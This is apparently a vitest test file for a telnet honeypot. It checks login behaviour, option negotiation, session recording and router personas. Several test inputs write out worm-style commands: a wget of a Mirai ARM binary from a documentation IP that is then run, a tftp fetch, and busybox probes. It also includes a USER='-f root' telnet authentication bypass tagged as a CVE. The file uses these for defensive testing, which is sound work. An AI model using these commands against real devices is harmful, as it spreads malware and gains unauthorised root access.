import { expect, it, onTestFinished } from 'vitest';
import { type PlayedClient, type PlayedService, playService, toldOf } from '../service/session.fixture.ts';
import { telnetDecoy } from './telnet.decoy.ts';

const REFUSE_FIRST = Buffer.from('fffe25fffe26fffc18fffc20fffc23fffc27fffc24', 'hex');
const REFUSE_SECOND = Buffer.from('fffd03fffc01fffc22fffc1ffffe05fffc21', 'hex');

function play(config: object = {}): PlayedService {
  const played = playService(telnetDecoy, { credentials: { anyAfterTries: false, weakPairs: false }, ...config });
  onTestFinished(async () => {
    await played.close();
    expect(played.failures).toEqual([]);
  });
  return played;
}

/** Past the negotiation, at the first prompt. */
async function atLogin(played: PlayedService, from?: { ip: string }): Promise<PlayedClient> {
  const client = played.connect(from);
  await client.settle();
  await client.send(REFUSE_FIRST);
  await client.send(REFUSE_SECOND);
  await client.settle(50);
  return client;
}

const accept = { credentials: { accept: [{ user: 'root', password: 'toor' }], anyAfterTries: false } };

it('says first what the daemon says first, and nothing more until it is answered', async () => {
  const client = play().connect();
  await client.settle(60_000);
  expect(client.received.toString('hex')).toBe('fffb25fffb26fffd18fffd20fffd23fffd27fffd24');
});

it('lets failures wait as PAM does, gives up after five, and tells each', async () => {
  const played = play();
  const client = await atLogin(played);
  expect(client.take()).toMatch(/\r\nLinux \S+ \(198\.51\.100\.7\) \(pts\/0\)\r\n\r\n\S+ login: $/);
  for (let tries = 1; tries <= 5; tries++) {
    await client.send('root\r\n');
    expect(client.take()).toBe('root\r\nPassword: ');
    await client.send(`guess ${tries}\r\n`);
    expect(client.take()).toBe('\r\n');
    await client.settle(1490);
    expect(client.text).toBe('');
    await client.settle(3100);
    expect(client.take()).toMatch(
      tries < 5
        ? /^\r\nLogin incorrect\r\n\S+ login: $/
        : /^\r\nLogin incorrect\r\nMaximum number of tries exceeded \(5\)\r\n$/,
    );
  }
  expect(client.closed).toBe(true);
  expect(
    played.events.filter(({ event }) => event.action === 'telnet-login').map((one) => one.netsentinel?.credential),
  ).toEqual([1, 2, 3, 4, 5].map((n) => ({ method: 'password', password: `guess ${n}`, accepted: false })));
});

it('opens the shell of the machine, records it, and tells what a worm does there', async () => {
  const played = play(accept);
  const client = await atLogin(played);
  await client.send('root\r\n');
  await client.send('toor\r\n');
  await client.settle(100);
  expect(client.take()).toMatch(/Last login: .* UTC \d{4} from \S+ on pts\/0\r\n\S+:~# $/s);
  for (const [line, answer] of [
    ['sh', '# '],
    ['/bin/busybox MIRAI', 'MIRAI: applet not found'],
    ["echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; cat /tmp/x", '\x7fELF'],
    ['cd /tmp; wget http://192.0.2.9/mirai.arm7 -O x; chmod 777 x; ./x', '# '],
    ['tftp -g -r a.sh 192.0.2.9; echo $?', '# '],
    ['exit', '# '],
    ['exit', 'logout'],
  ] as const) {
    await client.send(`${line}\r\n`);
    for (let waits = 0; waits < 40 && !client.text.includes(answer); waits++) await client.settle(250);
    expect(client.take()).toContain(answer);
  }
  expect(client.closed).toBe(true);
  const told = toldOf(played.events);
  for (const one of [
    'telnet-client',
    'telnet-login success',
    'telnet-session',
    'telnet-command',
    'telnet-download',
    'telnet-execute',
  ])
    expect(told).toContain(one);
  expect(told.at(-1)).toBe('telnet-disconnect');
  const session = played.events.find(({ event }) => event.action === 'telnet-session')!;
  expect(session.netsentinel).toMatchObject({
    opened: 'shell',
    terminal: { type: 'network' },
    recording: { format: 'asciicast-v2' },
  });
  expect(played.recordings.get(session.netsentinel!.session!.id)!.toString()).toContain('MIRAI: applet not found');
});

it('takes terminal, window and variables from the client', async () => {
  const played = play(accept);
  const client = played.connect();
  await client.send(Buffer.from('fffe25fffe26fffb18fffb20fffb23fffb27fffc24', 'hex'));
  await client.send(Buffer.from('fffa20003338343030fff0fffa2300613a30fff0', 'hex'));
  await client.send(Buffer.concat([Buffer.from('fffa270000', 'hex'), Buffer.from('X\x01y'), Buffer.from([255, 240])]));
  await client.send(Buffer.concat([Buffer.from('fffa1800', 'hex'), Buffer.from('XTERM'), Buffer.from([255, 240])]));
  await client.send(Buffer.from('fffd03fffc01fffc22fffb1ffffa1f00640028fff0fffe05fffc21', 'hex'));
  await client.settle(50);
  await client.send('root\r\0toor\r\0');
  await client.settle(50);
  await client.send('toor\r\0');
  await client.settle(100);
  await client.send('echo $TERM $COLUMNS $DISPLAY $REMOTEHOST\r\0');
  await client.settle(50);
  expect(client.text).toContain('xterm 100 a:0 198.51.100.7\r\n');
  expect(played.events.find(({ event }) => event.action === 'telnet-client')!.netsentinel).toMatchObject({
    client: { fingerprint: expect.stringMatching(/^x37 x38 \+24/) },
    terminal: { type: 'xterm', columns: 100, rows: 40 },
    environment: { X: 'y', 'terminal-speed': '38400' },
  });
});

it.each([
  [true, 'success', /:~# $/],
  [false, 'failure', / login: $/],
] as const)('meets USER=-f root as a daemon that takes it (%s)', async (takesUser, outcome, prompt) => {
  const played = play({ ...accept, takesUser });
  const client = played.connect();
  await client.send(Buffer.from('fffe25fffe26fffc18fffc20fffc23fffb27fffc24', 'hex'));
  await client.send(
    Buffer.concat([Buffer.from('fffa270000', 'hex'), Buffer.from('USER\x01-f root'), Buffer.from([255, 240])]),
  );
  await client.send(REFUSE_SECOND);
  await client.settle(100);
  expect(client.text).toMatch(prompt);
  expect(played.events.find(({ event }) => event.action === 'telnet-login')).toMatchObject({
    event: { outcome, reason: 'USER=-f root' },
    user: { name: 'root' },
    tags: ['cve-2026-24061'],
    netsentinel: { credential: { method: 'environment' } },
  });
});

it('asks for the password at once where the client names its user', async () => {
  const played = play(accept);
  const client = played.connect();
  await client.send(Buffer.from('fffe25fffe26fffc18fffc20fffc23fffb27fffc24', 'hex'));
  await client.send(
    Buffer.concat([Buffer.from('fffa270000', 'hex'), Buffer.from('USER\x01root'), Buffer.from([255, 240])]),
  );
  await client.send(REFUSE_SECOND);
  await client.settle(50);
  expect(client.text).toMatch(/\r\n\r\nPassword: $/);
});

it('is busybox where the machine is', async () => {
  const played = play({ ...accept, daemon: 'busybox' });
  const client = played.connect();
  await client.settle(50);
  expect(client.received.subarray(0, 12).toString('hex')).toBe('fffd01fffd1ffffb01fffb03');
  expect(client.take()).toMatch(/\r\r\nDebian GNU\/Linux 12\r\n\r\S+ login: $/);
  await client.send('root\r\n');
  await client.send('no\r\n');
  await client.settle(3000);
  expect(client.take()).toMatch(/^root\r\nPassword: \r\nLogin incorrect\r\n\S+ login: $/);
  await client.send('\x04');
  expect(client.closed).toBe(true);
});

it('gives an attacker one machine and one login over Telnet and its other ways in', async () => {
  const played = play({ credentials: { anyAfterTries: 2, weakPairs: false } });
  const first = await atLogin(played);
  await first.send('root\r\n');
  await first.send('wrong\r\n');
  await first.settle(5000);
  await first.send('root\r\n');
  await first.send('taken\r\n');
  await first.settle(100);
  await first.send('echo here > /root/mark; exit\r\n');
  await first.settle(100);
  const second = await atLogin(played);
  await second.send('root\r\n');
  await second.send('taken\r\n');
  await second.settle(100);
  second.take();
  await second.send('cat /root/mark\r\n');
  await second.settle(50);
  expect(second.text).toContain('\nhere\r\n');
  const other = await atLogin(played, { ip: '192.0.2.77' });
  other.take();
  await other.send('root\r\n');
  await other.send('taken\r\n');
  await other.settle(5000);
  expect(other.text).toContain('Login incorrect');
});

it('ends a login that takes too long', async () => {
  const client = await atLogin(play());
  await client.settle(59_000);
  expect(client.closed).toBe(false);
  await client.settle(1000);
  expect(client.text).toContain('\r\nLogin timed out after 60 seconds.\r\n');
  expect(client.closed).toBe(true);
});

it('is a router that a worm can use: its own shell, echo and processor', async () => {
  const played = play({ persona: 'dlink-home-router', credentials: { any: true } });
  const client = played.connect();
  await client.settle(50);
  await client.send('admin\r\n');
  await client.send('admin\r\n');
  await client.settle(100);
  expect(client.take()).toMatch(/BusyBox v1\.19\.4 \(.*\) built-in shell \(ash\)\r\n.*\r\n\r\n# $/s);
  for (const [line, answer] of [
    ['enable', '-sh: enable: not found'],
    ['sh', 'built-in shell (ash)'],
    ['/bin/busybox ECCHI', 'ECCHI: applet not found'],
    ['echo -ne "\\x7f\\x45\\x4c\\x46" > /tmp/.d; cat /tmp/.d', '\x7fELF'],
    ['head -c 20 /bin/busybox', '\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x08\0'],
    ['exit', '# '],
  ] as const) {
    await client.send(`${line}\r\n`);
    for (let waits = 0; waits < 20 && !client.text.includes(answer); waits++) await client.settle(100);
    expect(client.take()).toContain(answer);
  }
  expect(client.closed).toBe(false);
});
